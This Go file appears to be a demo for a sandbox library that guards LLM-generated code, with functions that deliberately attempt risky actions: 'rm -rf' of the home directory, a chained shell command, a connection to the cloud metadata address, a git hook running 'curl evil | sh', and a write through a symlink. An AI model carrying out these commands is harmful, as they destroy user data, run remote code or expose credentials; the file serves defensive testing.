package main

// This file stands for code an LLM wrote: over-eager, not hostile. It only
// ever sees the guarded handles the host gave it. Its line numbers show up
// in the demo's CALLER column.

import (
	"context"
	"io"
	"path/filepath"

	"github.com/spf13/afero"

	"github.com/auditguard/auditguard/netguard"
	"github.com/auditguard/auditguard/procguard"
)

// handles are what the host hands to generated code.
type handles struct {
	ctx  context.Context
	fs   afero.Fs
	work string // the workspace, also the handle's working directory
	home string // where the generated code believes the user's home is
}

func writePlan(h handles) error {
	if err := h.fs.MkdirAll("notes", 0o755); err != nil {
		return err
	}
	return afero.WriteFile(h.fs, "notes/plan.md", []byte("1. refactor\n2. test\n"), 0o644)
}

func listWorkspace(h handles) error {
	cmd := procguard.CommandContext(h.ctx, "ls", "-a")
	cmd.Dir = h.work
	return cmd.Run()
}

func cleanUpHome(h handles) error {
	return h.fs.Remove(filepath.Join(h.home, "notes.txt"))
}

func removeEverything(h handles) error {
	return procguard.CommandContext(h.ctx, "rm", "-rf", h.home).Run()
}

func askCloudMetadata(h handles) error {
	conn, err := (&netguard.Dialer{}).DialContext(h.ctx, "tcp", "169.254.169.254:80")
	if err == nil {
		conn.Close()
	}
	return err
}

func fetchFromDemoServer(h handles, url string) error {
	resp, err := netguard.NewClient(h.ctx).Get(url)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	_, err = io.Copy(io.Discard, resp.Body)
	return err
}

func installGitHook(h handles) error {
	return afero.WriteFile(h.fs, ".git/hooks/pre-commit", []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755)
}

func writeThroughSymlink(h handles) error {
	// "shared" is a symbolic link the workspace already had, pointing at the home dir.
	return afero.WriteFile(h.fs, "shared/stolen.txt", []byte("oops\n"), 0o644)
}

func chainedShell(h handles) error {
	cmd := procguard.CommandContext(h.ctx, "sh", "-c", "ls && rm -rf "+h.home)
	cmd.Dir = h.work
	return cmd.Run()
}

// searchTool is the host's trusted search tool, not generated code: it runs
// grep, which generated code may not, and the host's BeforeDeny rescues it.
func searchTool(ctx context.Context, work string) error {
	cmd := procguard.CommandContext(ctx, "grep", "-r", "refactor", work)
	return cmd.Run()
}
